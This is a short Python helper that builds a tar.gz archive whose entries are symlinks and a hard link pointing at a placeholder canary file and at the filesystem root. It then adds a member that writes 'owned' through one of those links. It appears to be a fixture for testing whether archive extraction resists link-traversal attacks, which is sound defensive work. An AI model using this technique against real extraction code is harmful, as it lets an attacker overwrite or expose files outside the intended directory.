"""Fill a tar archive with links to a secret file."""

from __future__ import annotations

import io
import tarfile
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

AIM = "CANARY_FILE"


def make(folder: Path) -> Path:
    """Build an archive that writes through its own links."""
    path = folder / "answer.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        for name, kind, target in (
            ("data", tarfile.SYMTYPE, AIM.rpartition("/")[0]),
            ("root", tarfile.SYMTYPE, "/"),
            ("app.py", tarfile.SYMTYPE, AIM),
            ("same.py", tarfile.LNKTYPE, AIM),
        ):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            archive.addfile(info)
        info = tarfile.TarInfo("data/secret.txt")
        info.size = 5
        archive.addfile(info, io.BytesIO(b"owned"))
    return path
